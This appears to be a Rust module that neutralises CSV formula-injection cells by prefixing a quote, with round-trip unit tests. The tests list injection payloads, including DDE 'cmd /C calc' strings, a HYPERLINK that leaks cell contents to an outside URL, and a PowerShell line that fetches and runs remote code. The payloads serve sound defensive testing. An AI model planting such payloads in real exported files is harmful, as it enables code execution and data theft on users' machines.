//! Every CSV file soxa writes goes through [`Writer`], which neutralises
//! cells a spreadsheet would run as a formula ("CSV injection"): a cell
//! whose first character, after any spaces, is `=`, `+`, `-`, `@`, a tab,
//! a carriage return or a line feed (or the full-width `＝＋－＠`) gets a
//! `'` in front, the OWASP rule. Excel and LibreOffice then show the text
//! as text. [`restore`] is the importer's side: it takes that `'` away again, and
//! only that one, so a CSV soxa wrote imports back to what was stored.

use std::borrow::Cow;
use std::io;

/// What makes a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// True when a spreadsheet could take `cell` for a formula.
fn dangerous(cell: &str) -> bool {
    cell.trim_start_matches([' ', '\u{a0}']).starts_with(TRIGGERS)
}

/// True for a dangerous cell, and for one that is quotes then a
/// dangerous cell (`'=x` typed by the clerk must come back as typed, so it
/// is quoted once more).
fn needs_quote(cell: &str) -> bool {
    dangerous(cell.trim_start_matches('\''))
}

/// `cell`, with a `'` in front when a spreadsheet could run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The importer's inverse of [`neutralise`] (`restore(neutralise(x)) == x`
/// for every `x`): `'=...` reads `=...`, `''=...` reads `'=...`; any other
/// cell, `'abc` included, is kept as typed.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// A `csv::Writer` that can only write neutralised cells.
pub struct Writer<W: io::Write>(::csv::Writer<W>);

impl<W: io::Write> Writer<W> {
    /// A writer set up by `builder` (delimiter, terminator...).
    pub fn new(builder: &::csv::WriterBuilder, inner: W) -> Writer<W> {
        // The one place allowed to make a `csv::Writer` (see clippy.toml).
        #[allow(clippy::disallowed_methods)]
        Writer(builder.from_writer(inner))
    }

    /// Writes one row, every cell through [`neutralise`].
    pub fn write_record<I, T>(&mut self, cells: I) -> ::csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(cells.into_iter().map(|c| neutralise(c.as_ref()).into_owned()))
    }

    /// The bytes (or whatever `W` is) once every row is written.
    pub fn into_inner(self) -> Result<W, ::csv::Error> {
        self.0.into_inner().map_err(|e| ::csv::Error::from(e.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FORMULAS: [&str; 12] = [
        "=HYPERLINK(\"http://x/?\"&A2,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u{a0}@x",
        "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
        "＝1+1",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ];

    #[test]
    fn every_formula_gets_a_quote_and_comes_back() {
        for f in FORMULAS {
            let safe = neutralise(f);
            assert_eq!(safe, format!("'{f}"));
            assert_eq!(restore(&safe), f, "{f:?}");
        }
    }

    #[test]
    fn plain_text_is_left_alone() {
        for t in ["Nguyễn Văn An", "'abc", "''abc", "0912 345 678", "a=b", "", " ", "12/03/2026"] {
            assert_eq!(neutralise(t), t);
            assert_eq!(restore(t), t);
        }
        assert_eq!(restore("'=x"), "=x");
        assert_eq!(restore("''=x"), "'=x", "only the quote soxa adds is taken away");
    }

    #[test]
    fn quotes_typed_before_a_formula_survive_the_round_trip() {
        for t in ["'=x", "''=x", "'-1", "'", "''", "'a", "=x"] {
            assert_eq!(restore(&neutralise(t)), t, "{t:?}");
        }
    }

    #[test]
    fn the_writer_cannot_forget() {
        let mut w = Writer::new(&::csv::WriterBuilder::new(), Vec::new());
        w.write_record(["=1+1", "ok"]).unwrap();
        assert_eq!(w.into_inner().unwrap(), b"'=1+1,ok\n");
    }
}
